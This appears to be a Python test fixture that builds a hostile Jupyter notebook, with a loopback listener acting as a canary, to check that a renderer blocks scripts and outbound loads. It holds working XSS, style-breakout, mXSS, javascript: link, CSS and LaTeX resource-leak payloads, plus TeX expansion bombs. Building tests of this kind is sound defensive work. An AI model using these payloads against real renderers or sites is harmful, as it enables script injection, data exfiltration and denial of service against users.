"""A notebook that tries everything a rendered notebook can try, with canaries that tell when one of its tries works."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{js}"><script>{js}</script>{more}</svg>'


@dataclass
class Listener:
    """Counts every request that reaches it. `url` is where a leak would arrive."""

    url: str = ""
    heard: list[str] = field(default_factory=list)


@contextmanager
def listening() -> Iterator[Listener]:
    """A web server on loopback that nobody should ever ask."""
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  # the names http.server calls

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # as in the base class
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.url = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


HONEST_MATHS = r"The mean is $\bar{x} = \frac{1}{n} \sum_{i=1}^n x_i$, see `\newcommand`."
# What TeX can do beside drawing: link, load, style (which loads), name elements, and grow without end.
HOSTILE_MATHS = (
    r"$\href{LEAK/href}{x}$ $\url{LEAK/url}$",
    r"$\includegraphics{LEAK/graphics}$",
    r"$\fcolorbox{red;background-image:url(LEAK/fcolorbox)}{white}{x}$",
    r"$\bbox[background-image:url(LEAK/bbox)]{x} \style{background-image:url(LEAK/style)}{y}$",
    r"$\require{html} \class{jp-Button}{x} \cssId{main}{y} \htmlData{a=b}{z}$",
    r"$\def\a{xx}"
    + "".join(rf"\def\{b}{{\{a}\{a}}}" for a, b in zip("abcdefghijklmn", "bcdefghijklmno", strict=True))
    + r"\o\o\o$",
    r"$\begin{array}{*{9999999}{c}} x \end{array} \rule{99999em}{99999em}$",
)


def hostile_notebook(leak: str) -> bytes:
    """The notebook. Every try sets `window.top.canary` or `window.canary`, or asks for something below `leak`."""
    js = f"top.canary=1;window.canary=1;fetch('{leak}/script')"
    html = [
        f"<script>{js}</script><p>html with a script</p>",
        f'<img src="{leak}/img" onerror="{js}">',
        f'<img srcset="{leak}/srcset 1x" src="{leak}/img2"><picture><source srcset="{leak}/source"></picture>',
        f'<iframe srcdoc="<script>{js}</script>"></iframe><iframe src="{leak}/iframe"></iframe>',
        f'<form action="{leak}/form" method="post"><button autofocus>press</button></form>',
        f'<base href="{leak}/base/"><img src="relative.png"><link rel="stylesheet" href="{leak}/css">',
        f'<meta http-equiv="refresh" content="0;url={leak}/refresh">',
        f"<style>@import '{leak}/import';body{{background:url({leak}/bg)}}</style><p style='background:url({leak}/inline)'>x</p>",
        f'<a href="javascript:{js}" id="jslink">link</a><object data="{leak}/object"></object><embed src="{leak}/embed">',
        f'<svg onload="{js}"><image href="{leak}/svgimage"/><use href="{leak}/use#a"/></svg>',
        f'<video src="{leak}/video" autoplay></video><audio src="{leak}/audio" autoplay></audio>',
        f'<button data-commandlinker-command="docmanager:save" data-commandlinker-args="{{}}">command</button><details open ontoggle="{js}">d</details>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>',
    ]
    # Markup that is whole again after one removal, and other ways out of a style element: each would put a link over the whole frame.
    link = f"<a href='{leak}/navigate' style='position:fixed;inset:0'>everywhere</a>"
    html += [
        f"<style><<//style>{link}",
        f'<style>a{{content:"</style>{link}"}}</style>',
        f'<style>a{{content:"\\3c /style>{link}"}}</style>',
        f"<style><!--</style>{link}--></style><svg><style>{link}</style></svg>",
        f"{link}<a href='{leak}/words'>https://good.example</a>",
    ]
    svg = SVG.format(
        js=js, more=f'<image href="{leak}/svg-image" width="9" height="9"/><style>@import url({leak}/svg-css)</style>'
    )
    outputs: list[dict[str, Any]] = [_display({"text/html": text}) for text in html]
    outputs += [
        _display({"image/svg+xml": svg}),
        _display({"application/javascript": js, "text/plain": "javascript"}),
        _display({"text/markdown": f"![remote]({leak}/md) <script>{js}</script> [x](javascript:{js})"}),
        _display({"text/latex": rf"$\href{{javascript:{js}}}{{click}}\includegraphics{{{leak}/tex}}$"}),
        _display({"application/vnd.vega.v5+json": {"data": [{"url": f"{leak}/vega"}]}, "text/plain": "vega"}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "widget"}),
    ]
    cells = [
        _markdown(
            f"# Hostile\n\n[https://good.example]({leak}/linked)\n\n"
            f'![m]({leak}/markdown)\n\n<img src=x onerror="{js}">\n\n```mermaid\ngraph TD; A-->B; click A href "javascript:{js}"\n```\n'
        ),
        {
            "cell_type": "code",
            "id": "attack",
            "execution_count": 1,
            "metadata": {"trusted": True},
            "source": "1",
            "outputs": outputs,
        },
        _markdown(HONEST_MATHS, "maths-honest"),
        *(_markdown(text.replace("LEAK", leak), f"maths-{number}") for number, text in enumerate(HOSTILE_MATHS)),
    ]
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {"trusted": True, "signature": "x"}, "cells": cells}
    ).encode()


def _display(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {"trusted": True}, "data": data}


def _markdown(source: str, identity: str = "words") -> dict[str, Any]:
    return {"cell_type": "markdown", "id": identity, "metadata": {}, "source": source}
